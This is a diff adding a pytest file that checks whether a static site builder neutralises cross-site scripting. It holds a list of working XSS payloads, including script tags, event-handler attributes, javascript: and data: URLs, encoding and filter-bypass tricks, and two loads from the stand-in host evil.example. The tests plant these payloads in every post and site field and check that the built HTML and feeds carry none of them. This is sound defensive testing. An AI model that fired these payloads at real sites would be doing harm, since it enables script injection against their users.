@@ -1,0 +1,207 @@
+"""A corpus of XSS payloads in every place a post or site.yaml can put text: none runs in the built site.
+
+Each payload goes into a post's title, summary, tags, declared speakers and their labels, model name,
+fence language and `norun reason=`, link, image and reference URLs, an autolink, raw HTML (block and
+inline), plain text, a footnote, a table cell — and into site.yaml's title, description and author. The
+built HTML is read with an HTML parser (bs4) and must hold no script but the theme's, no ``on*=``
+attribute, no ``javascript:``/``vbscript:``/``data:`` URL other than an image, and none of the elements
+that run or load code; feed.xml and sitemap.xml must parse as XML.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+import shlex
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import feedparser
+import pytest
+from bs4 import BeautifulSoup
+
+from site_builder.build import build_site
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)" x="',
+    "' onfocus='alert(1)' autofocus='",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;&#x61;vascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:text/html,<script>alert(1)</script>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<!--<script>alert(1)//-->",
+    "]]><script>alert(1)</script><![CDATA[",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<base href=javascript:alert(1)//>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<link rel=import href=//evil.example/x>",
+    "{{ 7*7 }}{% raw %}",
+    "\u2028<script>alert(1)</script>\u2029",
+    "<scr<script>ipt>alert(1)</script>",
+    "x\x01<script>\x0balert(1)</script>",
+]
+
+PLACES = ["title", "summary", "tag", "declared speaker", "speaker label", "model", "fence language",
+          "fence reason", "link URL", "image URL", "reference URL", "autolink", "raw HTML block", "inline HTML",
+          "plain text", "footnote", "table cell", "site title", "site description", "site author"]
+RISKY_ELEMENTS = {"iframe", "object", "embed", "base", "form", "frame", "frameset", "applet", "svg", "math",
+                  "style", "template", "textarea", "input", "video", "audio", "noscript", "xmp", "plaintext"}
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcdoc", "background", "cite",
+                  "xlink:href", "content", "srcset"}
+
+
+def one_line(text: str) -> str:
+    return " ".join(text.split())
+
+
+def post_for(number: int, payload: str) -> str:
+    """A post carrying ``payload`` in every place a post has."""
+    text = json.dumps(payload)
+    url = one_line(payload).replace(" ", "%20").replace(")", "%29")
+    word = "".join(ch for ch in payload if not ch.isspace() and ch not in "\"'\\")  # shlex reads the info
+
+    front = (f"title: {text}\nsummary: {text}\ntags: [{text}, plain]\n"
+             f"speakers:\n  {text}: {{role: user}}\n  \"Eve'O\": user\n  ChatGPT: {{role: assistant, model: {text}}}\n")
+    body = f"""
+Intro {one_line(payload)} [link]({url}) ![image]({url}) [reference][r] <{url}> footnote[^n]
+
+{one_line(payload)} — *emphasis*, **strong**, ~~struck~~, `code`
+
+| {one_line(payload).replace("|", "")} | b |
+|---|---|
+| c | d |
+
+[r]: {url}
+[^n]: {one_line(payload)}
+
+Eve'O: {one_line(payload)} in a turn of a label with a quote
+
+ChatGPT: an answer with <span>{one_line(payload)}</span> inside
+
+~~~{word or "x"}
+{payload}
+~~~
+
+~~~python norun reason={shlex.quote(one_line(payload))}
+print({text})
+~~~
+"""
+    return f"---\n{front}---\n{body}"
+
+
+@pytest.fixture(scope="module")
+def sites(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+    """(the site built from the corpus, a benign site built from the same theme)."""
+    root = tmp_path_factory.mktemp("xss")
+    hostile, benign = root / "hostile", root / "benign"
+    for content, payloads in ((hostile, PAYLOADS), (benign, ["harmless"])):
+        (content / "posts").mkdir(parents=True)
+        for number, payload in enumerate(payloads):
+            date = dt.date(2024, 1, 1) + dt.timedelta(days=number)
+            (content / "posts" / f"{date}-post-{number}.md").write_text(post_for(number, payload), encoding="utf-8")
+        first = json.dumps(payloads[0])
+        (content / "site.yaml").write_text(f"title: {first}\ndescription: {first}\nauthor: {first}\n"
+                                           "base_url: https://example.org/blog/\n", encoding="utf-8")
+        build_site(content, root / f"{content.name}-site")
+    return root / "hostile-site", root / "benign-site"
+
+
+def pages(site: Path) -> list[tuple[Path, BeautifulSoup]]:
+    return [(page, BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser"))
+            for page in sorted(site.rglob("*.html"))]
+
+
+def scripts(doc: BeautifulSoup) -> set[tuple[str, str]]:
+    """Each script as (file name it loads, its inline code): depth changes ``../`` but not these."""
+    return {((s.get("src") or "").rsplit("/", 1)[-1], (s.string or "").strip()) for s in doc.find_all("script")}
+
+
+def is_script_url(value: str) -> bool:
+    squeezed = "".join(ch for ch in value if ch > " ").lower()  # browsers drop tabs, newlines and controls
+    if squeezed.startswith("data:image/"):
+        return False
+    return squeezed.startswith(("javascript:", "vbscript:", "data:", "livescript:"))
+
+
+def test_the_corpus_reaches_every_page_kind(sites: tuple[Path, Path]) -> None:
+    hostile, _ = sites
+    assert len(list((hostile / "posts").iterdir())) == len(PAYLOADS)
+    page = (hostile / "posts" / "post-0" / "index.html").read_text(encoding="utf-8")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, "the payload is shown, as text"
+    tags = {payload.strip() for payload in PAYLOADS} | {"plain"}  # front matter values lose outer spaces
+    assert len(list((hostile / "tags").iterdir())) == len(tags)
+
+
+def test_no_script_but_the_themes(sites: tuple[Path, Path]) -> None:
+    hostile, benign = sites
+    allowed = set().union(*(scripts(doc) for _, doc in pages(benign)))
+    assert len(allowed) == 2, allowed  # the theme's early theme switch and assets/site.js
+    found = {page.relative_to(hostile).as_posix(): scripts(doc) - allowed for page, doc in pages(hostile)}
+    assert {page: extra for page, extra in found.items() if extra} == {}
+
+
+def test_no_event_handler_attribute(sites: tuple[Path, Path]) -> None:
+    hostile, _ = sites
+    handlers = [(page.name, tag.name, name) for page, doc in pages(hostile) for tag in doc.find_all(True)
+                for name in tag.attrs if name.lower().startswith("on")]
+    assert handlers == []
+
+
+def test_no_element_the_theme_and_markdown_do_not_make(sites: tuple[Path, Path]) -> None:
+    hostile, benign = sites
+    names = {site: {tag.name for _, doc in pages(site) for tag in doc.find_all(True)} for site in sites}
+    assert names[hostile] - names[benign] == set()
+    assert names[hostile] & RISKY_ELEMENTS == set()
+
+
+def test_no_script_url_and_no_element_that_runs_or_loads_code(sites: tuple[Path, Path]) -> None:
+    hostile, _ = sites
+    urls, elements = [], []
+    for page, doc in pages(hostile):
+        for tag in doc.find_all(True):
+            if tag.name in RISKY_ELEMENTS or (tag.name == "meta" and tag.get("http-equiv")):
+                elements.append((page.relative_to(hostile).as_posix(), str(tag)[:80]))
+            if tag.name == "link" and tag.get("rel") not in (["stylesheet"], ["alternate"]):
+                elements.append((page.relative_to(hostile).as_posix(), str(tag)[:80]))
+            for name, value in tag.attrs.items():
+                values = value if isinstance(value, list) else [value]
+                if name.lower() in URL_ATTRIBUTES and any(is_script_url(v) for v in values):
+                    urls.append((page.relative_to(hostile).as_posix(), name, str(value)[:80]))
+    assert urls == [] and elements == []
+
+
+def test_feed_and_sitemap_parse_as_xml(sites: tuple[Path, Path]) -> None:
+    hostile, _ = sites
+    sitemap = ET.parse(hostile / "sitemap.xml").getroot()
+    feed = ET.parse(hostile / "feed.xml").getroot()
+    atom = "{http://www.w3.org/2005/Atom}"
+    assert len(feed.findall(f"{atom}entry")) == 20 and len(sitemap) > len(PAYLOADS)
+    assert all(not is_script_url(link.get("href", "")) for link in feed.iter(f"{atom}link"))
+    assert all(not e.tag.startswith("{http://www.w3.org/1999/xhtml}") for e in feed.iter()), "no markup"
+    parsed = feedparser.parse((hostile / "feed.xml").read_bytes())
+    assert not parsed.bozo, parsed.get("bozo_exception")
+    titles = {entry.title for entry in parsed.entries}
+    assert "<script>alert(1)</script>" in titles, "the payload is a title, as text"
